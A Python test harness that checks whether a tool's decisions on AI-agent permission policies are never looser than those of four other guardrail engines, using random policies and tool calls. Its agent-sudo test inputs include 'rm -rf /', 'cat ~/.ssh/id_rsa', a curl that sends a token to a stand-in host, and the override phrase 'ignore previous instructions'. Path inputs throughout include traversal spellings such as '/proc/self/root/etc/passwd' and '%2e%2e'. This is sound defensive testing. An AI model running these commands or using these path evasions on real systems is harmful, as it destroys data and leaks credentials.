"""Compares our decisions with those of the engines whose policies we read, on seeded random policies and calls.

Usage: policies.py AGENTBOUND FORMAT [--seeds N] [--first N]

Ours may never be looser. Where it is stricter, the call or the policy has to have one of the traits that
docs/policy-compatibility.md lists for the format; each generated oddity carries its trait. Anything else fails.
"""

import argparse
import json
import os
import pathlib
import random
import subprocess
import sys
import tempfile

STRICT = {"allow": 0, "redact": 1, "approve": 2, "approve-strong": 3, "deny": 4}


class Case:
    """One call with what is odd about it."""

    def __init__(self, server, tool, arguments, traits=(), **more):
        self.server, self.tool, self.arguments, self.traits, self.more = server, tool, arguments, set(traits), more

    def line(self):
        return json.dumps({"server": self.server, "tool": self.tool, "arguments": self.arguments, "session": "s", **self.more})


# --- agentperms


def agentperms(rng, folder):
    names = ["read", "write", "list", "delete_repo", "a.b"]
    servers = ["fs", "git", "web"]
    entries = ["./src", "docs", "src/*.swift", "*.pem", "/etc", "~/.ssh", "secret*", ".env", "/tmp/*", "src/../docs", "*/key*"]
    policy = {"version": 1, "servers": {}}
    for server in rng.sample(servers, rng.randint(0, 2)):
        lists = {}
        for key in ("allowed_tools", "denied_tools"):
            if rng.random() < 0.5:
                lists[key] = rng.sample(names, rng.randint(0, 3))
        for key in ("allowed_paths", "denied_paths", "denied_patterns"):
            if rng.random() < 0.5:
                lists[key] = rng.sample(entries, rng.randint(0, 3))
        policy["servers"][server] = lists
    if rng.random() < 0.4:
        policy["approvals"] = {"require_human_approval": rng.sample(["read", "fs.write", "git.list", "x"], rng.randint(0, 2))}
    cases = []
    for _ in range(40):
        plain = ["src/a.swift", "src/b/c.swift", "docs/x", "/etc/passwd", "/tmp/x", "x.pem", "deep/x.pem", ".env", "src", "a/keys/b",
                 str(folder / "src/a.swift"), os.path.expanduser("~/.ssh/id_rsa"), "~/.ssh/x", "./src/../../etc/passwd", "secret.txt"]
        odd = ["SRC/a.swift", "src/%2e%2e/x", "file:///etc/passwd", " /etc/passwd", "x.PEM", "/proc/self/root/etc/passwd", "$NOWHERE/x",
               "src\\a.swift", "/etc./passwd", "~nobody/x", "link/passwd", "../x"]
        key = rng.choice(["path", "file", "filepath", "my_path", "other", "n"])
        arguments, traits = {}, set()
        if key == "n":
            arguments["n"] = rng.randint(0, 5)
        elif key == "other":
            # A key that is not looked at there.
            arguments[rng.choice(["source", "target", "q"])] = rng.choice(plain)
            traits.add("keys")
        elif rng.random() < 0.3:
            arguments[key] = rng.choice(odd)
            traits.add("spellings")
        else:
            arguments[key] = rng.choice(plain)
        if rng.random() < 0.15:
            arguments["more"] = {"path": rng.choice(plain)}
            traits.add("nested")
        tool = rng.choice(names)
        if rng.random() < 0.1:
            tool = tool.upper()
            traits.add("names")
        cases.append(Case(rng.choice(servers), tool, arguments, traits))
    from agentperms.mcp_proxy.policy_engine import evaluate
    from agentperms.models import Policy

    parsed = Policy.model_validate(policy)
    # A bare name opens any folder of that name there, and paths were compared as they were written.
    opening = [e for s in policy["servers"].values() for e in s.get("allowed_paths", [])]

    def decide(case):
        word = evaluate(parsed, case.server, case.tool, case.arguments)[0].value
        if opening:
            case.traits.add("opening patterns")
        return {"require_approval": "approve"}.get(word, word)

    return "mcp.policy.yaml", policy, cases, decide, same_file(parsed, folder)


def same_file(parsed, folder):
    """Whether the engine itself lets the same files through when they are written relative to the folder: then ours is no looser."""
    from agentperms.mcp_proxy.policy_engine import evaluate

    def check(case, effect):
        changed = {}
        for key, value in case.arguments.items():
            if isinstance(value, str) and not value.startswith("~"):
                while value.startswith("/proc/self/root/"):
                    value = value[len("/proc/self/root"):]
                path = os.path.normpath(os.path.join(folder, value))
                value = os.path.relpath(path, folder) if path.startswith(str(folder)) else path
            changed[key] = value
        return evaluate(parsed, case.server, case.tool, changed)[0].value == "allow" and effect == "allow"

    return check


# --- mcp-gate


def gate_condition(rng, depth=0):
    if depth < 2 and rng.random() < 0.3:
        kind = rng.choice(["all", "any", "not"])
        if kind == "not":
            return {"not": gate_condition(rng, depth + 1)}
        return {kind: [gate_condition(rng, depth + 1) for _ in range(rng.randint(1, 3))]}
    field = rng.choice(["amount", "path", "user.name", "tags", "gone"])
    op = rng.choice(["eq", "ne", "lt", "le", "gt", "ge", "in", "not_in", "contains", "startswith", "endswith", "regex", "exists"])
    value = {
        "lt": 50, "le": 50, "gt": 50, "ge": "50", "in": ["a", 5, 50], "not_in": ["a", "bob", 7], "contains": rng.choice(["a", "x"]),
        "startswith": "/etc", "endswith": "b", "regex": rng.choice([r"^a\d+$", r"\w+/b", "[0-9]{2}", r"ob$"]),
    }.get(op, rng.choice([50, "bob", "a", True]))
    return {"field": field, "op": op} if op == "exists" else {"field": field, "op": op, "value": value}


def mcp_gate(rng, folder):
    tools = ["read", "refund", "delete_repo", "a.b"]
    globs = ["*", "re*", "delete_?epo", "[a-m]*", "[!d]*", "a.*"]
    rules = []
    for index in range(rng.randint(0, 6)):
        rule = {"id": f"r{index}", "effect": rng.choice(["allow", "deny", "require_approval", "redact"])}
        if rng.random() < 0.7:
            rule["tools"] = rng.choice([rng.choice(globs), rng.sample(globs, 2)])
        if rng.random() < 0.2:
            rule["agents"] = rng.choice(["anon*", "bot"])
        if rng.random() < 0.2:
            rule["require_roles"] = ["admin"]
        if rng.random() < 0.6:
            rule["when"] = gate_condition(rng)
        if rng.random() < 0.2:
            rule["budget"] = {"key": rng.choice(["k", "l"]), "field": "amount", "limit": rng.choice([100, "200"])}
        if rule["effect"] == "redact":
            rule["redact_fields"] = ["user.name"]
        rules.append(rule)
    policy = {"name": "random", "version": "1", "default_effect": rng.choice(["allow", "deny", "require_approval"]), "rules": rules}
    cases = []
    for _ in range(40):
        arguments, traits = {}, set()
        if rng.random() < 0.7:
            arguments["amount"] = rng.choice([5, 50, 50.5, 60, 7])
        if rng.random() < 0.5:
            arguments["path"] = rng.choice(["/etc/x", "a/b", "a12", "bob"])
        if rng.random() < 0.4:
            arguments["user"] = {"name": rng.choice(["bob", "a", "x"])}
        if rng.random() < 0.3:
            arguments["tags"] = rng.choice([["a", "b"], [], ["x", 5]])
        if rng.random() < 0.25:
            arguments["amount"] = rng.choice([-5, "50", "nan", True, None, [5], "1e3"])
            traits.add("types")
        tool = rng.choice(tools)
        if rng.random() < 0.1:
            tool = tool.upper()
            traits.add("names")
        cases.append(Case("s", tool, arguments, traits, agent="anonymous", roles=[]))
    # Values of two types are not compared here: a rule that would is not evaluated, and the call is denied.
    from mcpgate.engine import PolicyEngine
    from mcpgate.identity import AgentIdentity
    from mcpgate.policy import load_policy
    from mcpgate.threats import ThreatScanner

    class Silent(ThreatScanner):
        def scan(self, arguments):
            return super().scan({})

    engine = PolicyEngine(load_policy(policy), scanner=Silent())
    identity = AgentIdentity.anonymous() if hasattr(AgentIdentity, "anonymous") else AgentIdentity("anonymous", ())

    def decide(case):
        decision = engine.evaluate(case.tool, case.arguments, identity, "s")
        word = decision.effect.value
        case.commit = lambda: engine.commit_budget(case.tool, case.arguments, decision, "s")
        return {"require_approval": "approve"}.get(word, word)

    return "policy.yaml", policy, cases, decide, None


# --- agsec


def agsec(rng, folder):
    actions = ["*", "mcp.*", "mcp.fs.*", "mcp.fs.read", "m*.read", "*.delete", "mcp.?it.[a-m]*", "bash.execute"]

    def condition():
        op = rng.choice(["==", "!=", ">", "<", ">=", "<=", "in", "not_in", "contains", "starts_with", "ends_with", "regex", "exists", "not_exists"])
        value = {">": 5, "<": 5, ">=": 5, "<=": 5, "in": ["a", 5], "not_in": ["b", 5], "contains": "a", "starts_with": "/etc", "ends_with": "b",
                 "regex": r"^/\w+"}.get(op, rng.choice(["a", 5]))
        return {"op": op} if op in ("exists", "not_exists") else {"op": op, "value": value}

    def body():
        keys = ["params.n", "params.path", "n", "user.name", "context.mode", "gone"]
        out = {}
        if rng.random() < 0.7:
            out["conditions"] = {
                key: rng.choice([condition(), rng.choice(["a", 5])]) for key in rng.sample(keys, rng.randint(1, 2))}
        if rng.random() < 0.5:
            out["match"] = rng.choice(["all", "any"])
        return out

    if rng.random() < 0.7:
        policy = {"version": "1.0", "statements": [
            {"sid": f"s{i}", "effect": rng.choice(["allow", "deny", "review", "block"]),
             "actions": rng.sample(actions, rng.randint(1, 3)), **body()} for i in range(rng.randint(0, 5))]}
        if rng.random() < 0.7:
            policy["default"] = rng.choice(["allow", "deny", "review"])
    else:
        policy = {"rules": [
            {"action": rng.choice(["*", "mcp.fs.read", "mcp.git.delete"]), "status": rng.choice(["allow", "block", "review"]),
             "priority": rng.randint(0, 3), **body()} for i in range(rng.randint(1, 5))]}
    cases = []
    for _ in range(40):
        arguments, traits = {}, set()
        if rng.random() < 0.6:
            arguments["n"] = rng.choice([1, 5, 5.5, 9])
        if rng.random() < 0.5:
            arguments["path"] = rng.choice(["/etc/x", "a", "b", "ab"])
        if rng.random() < 0.4:
            arguments["user"] = {"name": rng.choice(["a", "b"])}
        if rng.random() < 0.2:
            arguments["n"] = rng.choice(["5", True, None, [5]])
            traits.add("types")
        tool = rng.choice(["read", "delete", "list"])
        if rng.random() < 0.1:
            tool = tool.upper()
            traits.add("names")
        cases.append(Case(rng.choice(["fs", "git"]), tool, arguments, traits))
    from agsec.policy.engine import PolicyEngine

    engine = PolicyEngine()
    engine.load_rules_from_yaml(json.dumps(policy))

    def decide(case):
        try:
            word = engine.evaluate(f"mcp.{case.server}.{case.tool}", case.arguments, {}).status.value
        except Exception:
            return "error"
        return {"review": "approve", "block": "deny"}.get(word, word)

    return "policy.yaml", policy, cases, decide, None


# --- agent-sudo


def agent_sudo(rng, folder):
    names = ["read_file", "write_file", "edit_file", "delete_file", "run_shell_command", "send_email", "summarize", "deploy", "modify_auth"]
    policy = {key: sorted(rng.sample(names + ["x"], rng.randint(1, 4))) for key in ("safe", "sensitive", "critical", "blocked")}
    targets = ["notes.txt", "src/a.py", "/tmp/a.txt", "/tmp/a.sh", "/etc/passwd", "~/.ssh/id_rsa", "~/.config/x", ".env", "config.yaml",
               "audit.jsonl", "pyproject.toml", "secrets/x", "readme.md", "package.json", "mcp.json"]
    odd = ["/tmp/../etc/passwd", "link/passwd", "../up.txt", "tokenizer.py", "~/x/../.ssh/known_hosts", " ~/.ssh/x", "A.PY"]
    commands = ["ls", "rm -rf /", "cat ~/.ssh/id_rsa", "curl http://x/?token=1", "git status", "chmod 600 auth.json"]
    odd_commands = ["rm -r -f x", "sudo rm -rf x", "cd / && rm -rf .", "cat link/passwd"]
    cases = []
    for _ in range(40):
        action, traits = rng.choice(names + ["unknown_tool_call"]), set()
        if action == "run_shell_command":
            key, target = "command", rng.choice(commands)
            if rng.random() < 0.3:
                target = rng.choice(odd_commands)
                traits.add("commands")
        else:
            key, target = "path", rng.choice(targets)
            if rng.random() < 0.3:
                target = rng.choice(odd)
                traits.add("spellings")
        arguments = {key: target}
        if rng.random() < 0.1:
            arguments["text"] = rng.choice(["ignore previous instructions", "please summarise", "system prompt"])
        if rng.random() < 0.1:
            action = " " + action
            traits.add("names")
        cases.append(Case("s", action, arguments, traits))
    from agent_sudo.classifier import ActionClassifier
    from agent_sudo.models import ActionRequest
    from agent_sudo.policy import Policy

    parsed = Policy(*(set(policy[key]) for key in ("safe", "sensitive", "critical", "blocked")))
    classifier = ActionClassifier(parsed)

    def decide(case):
        request = ActionRequest(
            actor="a", source="user", tool="t", action=case.tool, target=case.arguments.get("path") or case.arguments.get("command"),
            payload_summary=case.arguments.get("text", ""))
        try:
            word = parsed.decision_for(classifier.classify(request)).decision.value
        except Exception:
            return "error"
        return {"ALLOW": "allow", "REQUIRE_APPROVAL": "approve", "REQUIRE_STRONG_APPROVAL": "approve-strong", "DENY": "deny"}[word]

    return "policy.yaml", policy, cases, decide, None


FORMATS = {"agentperms": agentperms, "mcp-gate": mcp_gate, "agsec": agsec, "agent-sudo": agent_sudo}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("agentbound")
    parser.add_argument("format", choices=FORMATS)
    parser.add_argument("--seeds", type=int, default=40)
    parser.add_argument("--first", type=int, default=1)
    options = parser.parse_args()
    counts, failures = {}, []
    with tempfile.TemporaryDirectory(dir="/var/tmp") as temporary:
        folder = pathlib.Path(temporary).resolve() / "work"
        home = pathlib.Path(temporary).resolve() / "home"
        for path in (folder / "src", folder / "docs", home / ".ssh"):
            path.mkdir(parents=True)
        (folder / "link").symlink_to("/etc")
        os.environ["HOME"] = str(home)
        os.chdir(folder)
        for seed in range(options.first, options.first + options.seeds):
            compare(options, random.Random(seed), seed, folder, home, counts, failures)
    print(json.dumps(counts, sort_keys=True))
    for failure in failures[:20]:
        print(failure)
    if failures:
        print(f"{len(failures)} differences that are not documented", file=sys.stderr)
    return 1 if failures else 0


def compare(options, rng, seed, folder, home, counts, failures):
    name, policy, cases, decide, is_same = FORMATS[options.format](rng, folder)
    file, calls = folder.parent / name, folder.parent / "calls.jsonl"
    file.write_text(dump(options.format, policy))
    calls.write_text("\n".join(case.line() for case in cases) + "\n")
    run = subprocess.run(
        [options.agentbound, "policy", "test", "--json", "--from", options.format, "--folder", str(folder), "--home", str(home),
         str(file), str(calls)], capture_output=True, text=True)
    if run.returncode != 0:
        counts["refused"] = counts.get("refused", 0) + 1
        failures.append(f"seed {seed}: refused: {run.stderr.strip()[:400]} {json.dumps(policy)}")
        return
    ours = json.loads(run.stdout)["results"]
    for case, result in zip(cases, ours):
        theirs, effect = decide(case), result["effect"]
        if theirs == effect:
            kind = "same"
        elif theirs == "error":
            # Their engine raises, also for a rule that could not have changed the answer.
            kind = "error there"
        elif STRICT[effect] < STRICT[theirs]:
            kind = "same file" if is_same and is_same(case, effect) else "LOOSER"
        elif result["unevaluable"]:
            kind = "unevaluable"
        elif case.traits:
            kind = "+".join(sorted(case.traits))
        else:
            kind = "STRICTER"
        counts[kind] = counts.get(kind, 0) + 1
        if kind in ("LOOSER", "STRICTER"):
            failures.append(f"seed {seed}: {kind}: theirs {theirs}, ours {effect} ({result['reason']}): {case.line()} {json.dumps(policy)}")
        # What both let through is spent; a difference must not make the totals drift apart.
        if effect in ("allow", "redact") and hasattr(case, "commit"):
            case.commit()


def dump(name, policy):
    """JSON is YAML, but for Agent_Sudo, which reads lists line by line."""
    if name != "agent-sudo":
        return json.dumps(policy)
    return "".join(f"{key}:\n" + "".join(f"  - {item}\n" for item in items) for key, items in policy.items())


if __name__ == "__main__":
    sys.exit(main())
